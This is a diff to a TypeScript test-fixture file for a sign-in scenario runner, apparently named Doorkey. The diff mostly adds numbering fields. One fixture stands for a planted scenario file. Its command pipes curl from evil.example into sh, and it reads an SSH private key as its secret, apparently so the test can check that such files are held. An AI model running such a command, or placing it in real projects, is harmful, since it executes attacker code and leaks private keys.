@@ -15,11 +15,13 @@ const line = (line: ScenarioLine): ScenarioMessage => ({ type: 'line', line });
 
 /** The files, before anything is run. */
 export const planned: ScenarioMessage[] = [
-  { type: 'chosen', places },
+  { type: 'chosen', watching: 1, places },
   line({
     type: 'file',
     version: 1,
+    number: 1,
     file: LOGIN,
+    environment: ['ACME_ISSUER'],
     held: true,
     runs: [
       { name: 'Ada signs in', by: 'chromium', secrets: [{ env: 'ADA_PASSWORD' }], issuer: ISSUER },
@@ -27,7 +29,7 @@ export const planned: ScenarioMessage[] = [
       { name: 'Grace signs in', by: 'command', commands: ['node login.mjs --as grace'], secrets: [{ keyring: 'acme-tests', account: 'grace' }], issuer: ISSUER },
     ],
   }),
-  line({ type: 'file', version: 1, file: EDGE, held: true, runs: [{ name: 'Ada says no', by: 'command', commands: ['node login.mjs --as ada --deny'], profile: 'work' }] }),
+  line({ type: 'file', version: 1, number: 2, file: EDGE, held: true, runs: [{ name: 'Ada says no', by: 'command', commands: ['node login.mjs --as ada --deny'], profile: 'work' }] }),
   line({ type: 'waiting', held: true }),
 ];
 
@@ -76,10 +78,10 @@ const broken: ScenarioLine = {
 };
 
 /** They are run: each file is told of once more. */
-const agreed = planned.flatMap((message) => (message.type === 'line' && message.line.type === 'file' ? [line({ ...message.line, held: false })] : []));
+const agreed = planned.flatMap((message) => (message.type === 'line' && message.line.type === 'file' ? [line({ ...message.line, number: message.line.number + 2, held: false })] : []));
 
 /** Somebody has put it there since. */
-const late = line({ type: 'file', version: 1, file: '/home/ada/acme/tests/statement.toml', held: true, runs: [{ name: 'A sign-in of somebody else', by: 'command', commands: ['sh -c "curl https://evil.example | sh"'], secrets: [{ file: '../../.ssh/id_ed25519' }], issuer: 'https://evil.example' }] });
+const late = line({ type: 'file', version: 1, number: 6, file: '/home/ada/acme/tests/statement.toml', held: true, runs: [{ name: 'A sign-in of somebody else', by: 'command', commands: ['sh -c "curl https://evil.example | sh"'], secrets: [{ file: '../../.ssh/id_ed25519' }], issuer: 'https://evil.example' }] });
 
 /** How it is told on, by the scene. */
 export function scenarioStory(scene: string, events: readonly Event[]): ScenarioMessage[] {
@@ -89,6 +91,7 @@ export function scenarioStory(scene: string, events: readonly Event[]): Scenario
   const mistake = line({
     type: 'file',
     version: 1,
+    number: 5,
     file: HALF,
     runs: [],
     held: false,
@@ -106,10 +109,10 @@ export function scenarioStory(scene: string, events: readonly Event[]): Scenario
     case 'scenariosLeft':
       return [...planned, ...agreed, ...done, ...running.slice(1), { type: 'left', refusal: refusal('desktop.watch_ended', 'The command that plays the scenarios has ended: signal: 9 (SIGKILL).', 'Look at what it said last, and run them again.'), said: ['login.mjs: the page has no #allow', 'Killed'] }];
     case 'scenariosMissing':
-      return [{ type: 'chosen', places }, { type: 'left', refusal: refusal('desktop.no_command', 'The `doorkey` command, which plays scenarios, is not beside this program: /opt/doorkey has none.', 'Install Doorkey’s package again: the window and the command belong beside each other.'), said: [] }];
+      return [{ type: 'chosen', watching: 1, places }, { type: 'left', refusal: refusal('desktop.no_command', 'The `doorkey` command, which plays scenarios, is not beside this program: /opt/doorkey has none.', 'Install Doorkey’s package again: the window and the command belong beside each other.'), said: [] }];
     case 'scenariosNone':
-      return [{ type: 'chosen', places }, line({ type: 'waiting', held: false })];
+      return [{ type: 'chosen', watching: 1, places }, line({ type: 'waiting', held: false })];
     default:
-      return [{ type: 'chosen', places: [] }];
+      return [{ type: 'chosen', watching: 1, places: [] }];
   }
 }
